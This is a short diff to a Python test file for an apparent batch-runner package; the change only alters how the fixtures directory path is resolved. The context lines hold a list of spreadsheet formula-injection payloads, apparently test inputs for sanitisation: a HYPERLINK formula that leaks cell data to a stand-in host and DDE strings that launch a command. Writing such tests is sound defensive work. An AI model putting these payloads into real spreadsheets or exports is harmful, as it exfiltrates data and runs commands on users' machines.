@@ -34,7 +34,7 @@ from batch_runner.transport import Transport
 
 from conftest import ROOT, sim_env
 
-FIXTURES_DIR = Path(__file__).parent / "fixtures"
+FIXTURES_DIR = Path(__file__).resolve().parent.parent / "fixtures"
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
 
